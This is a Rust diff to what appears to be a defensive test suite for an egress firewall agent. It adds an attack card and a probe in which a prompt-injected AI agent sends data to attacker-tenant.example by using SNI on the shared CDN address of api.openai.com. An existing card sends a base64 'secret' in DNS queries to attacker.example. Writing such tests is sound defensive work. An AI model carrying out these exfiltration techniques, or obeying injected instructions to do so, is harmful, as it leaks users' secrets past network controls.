@@ -33,6 +33,10 @@ pub enum Probe {
     ForeignDns(&'static str),
     /// A lookup through the approved resolver whose name is the payload.
     Lookup(&'static str),
+    /// Resolve the first name through the approved resolver, then TLS to
+    /// that address naming the second (SNI): another tenant of a shared
+    /// front end.
+    SharedAddress(&'static str, &'static str),
 }
 
 /// What a card expects in one mode: whether the traffic got through, and
@@ -122,6 +126,16 @@ pub const CARDS: &[Card] = &[
         attack: "secrets encoded in queries sent straight to 198.51.100.99:53",
         probe: Probe::ForeignDns("c2VjcmV0.x.attacker.example"),
         rule: "deny-dns-exfil",
+        monitor: ex(true, "would_deny"),
+        enforce: ex(false, "denied"),
+    },
+    Card {
+        id: "llm02-shared-cdn",
+        owasp: Some("LLM02 Sensitive Information Disclosure"),
+        title: "exfiltration to an attacker's tenant on a sanctioned CDN's address",
+        attack: "an injected instruction (LLM01) resolves api.openai.com, then TLS to that address with SNI attacker-tenant.example",
+        probe: Probe::SharedAddress("api.openai.com", "attacker-tenant.example"),
+        rule: "default-deny",
         monitor: ex(true, "would_deny"),
         enforce: ex(false, "denied"),
     },
@@ -283,31 +297,45 @@ fn dns_filter_verdict(before: &str, after: &str) -> Option<(String, (String, u64
     None
 }
 
+/// The flow whose record tells what became of a probe: its address, port,
+/// protocol, and the name it gave when that is what decided.
+type ProbedFlow = Option<(String, u16, &'static str, Option<&'static str>)>;
+
 /// Plays `card` once and reads back what the agent reported.
 fn play(lab: &Lab, agent: &AgentProcess, card: Card, mode: &'static str) -> io::Result<Outcome> {
     let before = agent.metrics()?;
     let generation = metric(&before, "egress_pack_generation");
     let seen = agent.flow_records().len();
     let me = WORKLOAD_V4.to_string();
-    let (delivered, traffic, flow): (bool, String, Option<(String, u16, &str)>) = match card.probe {
+    let (delivered, traffic, flow): (bool, String, ProbedFlow) = match card.probe {
         Probe::Name(name) => match lookup(lab, SocketAddr::new(RESOLVER.parse().map_err(io::Error::other)?, 53), name)?
         {
             Some(addr) => {
                 // As a TLS client starts: a ClientHello naming the host.
                 let ok = lab.tls_exchange(None, SocketAddr::new(addr, 443), name, TIMEOUT)?;
-                (ok, format!("{name} → tcp {addr}:443"), Some((addr.to_string(), 443, "tcp")))
+                (ok, format!("{name} → tcp {addr}:443"), Some((addr.to_string(), 443, "tcp", None)))
             }
             None => (false, format!("{name}: lookup refused"), None),
         },
+        Probe::SharedAddress(name, sni) => {
+            match lookup(lab, SocketAddr::new(RESOLVER.parse().map_err(io::Error::other)?, 53), name)? {
+                Some(addr) => {
+                    let ok = lab.tls_exchange(None, SocketAddr::new(addr, 443), sni, TIMEOUT)?;
+                    (ok, format!("{name} → tcp {addr}:443, SNI {sni}"), Some((addr.to_string(), 443, "tcp", Some(sni))))
+                }
+                None => (false, format!("{name}: lookup refused"), None),
+            }
+        }
         Probe::Tcp(to) => {
             let to: SocketAddr = to.parse().map_err(io::Error::other)?;
-            (lab.tcp_exchange(None, to, TIMEOUT)?, format!("tcp {to}"), Some((to.ip().to_string(), to.port(), "tcp")))
+            let ok = lab.tcp_exchange(None, to, TIMEOUT)?;
+            (ok, format!("tcp {to}"), Some((to.ip().to_string(), to.port(), "tcp", None)))
         }
         Probe::ForeignDns(name) => {
             let to: SocketAddr = FOREIGN_RESOLVER.parse().map_err(io::Error::other)?;
             // The foreign "resolver" echoes: any answer means the query got out.
             let out = lookup(lab, to, name);
-            (out.is_ok(), format!("udp {to} query {name}"), Some((to.ip().to_string(), to.port(), "udp")))
+            (out.is_ok(), format!("udp {to} query {name}"), Some((to.ip().to_string(), to.port(), "udp", None)))
         }
         Probe::Lookup(name) => {
             let got = lookup(lab, SocketAddr::new(RESOLVER.parse().map_err(io::Error::other)?, 53), name)?;
@@ -317,7 +345,7 @@ fn play(lab: &Lab, agent: &AgentProcess, card: Card, mode: &'static str) -> io::
     let mut record = None;
     let mut verdict = String::from("no report");
     let mut counter = None;
-    if let Some((dst, dport, proto)) = &flow {
+    if let Some((dst, dport, proto, name)) = &flow {
         // Its own record: among those written since the probe began.
         let deadline = Instant::now() + Duration::from_secs(2);
         while record.is_none() && Instant::now() < deadline {
@@ -328,6 +356,7 @@ fn play(lab: &Lab, agent: &AgentProcess, card: Card, mode: &'static str) -> io::
                     && v["dport"] == *dport
                     && v["proto"] == *proto
                     && v["pack"] == generation
+                    && name.is_none_or(|n| v["name"] == n)
             });
             if record.is_none() {
                 std::thread::sleep(Duration::from_millis(50));
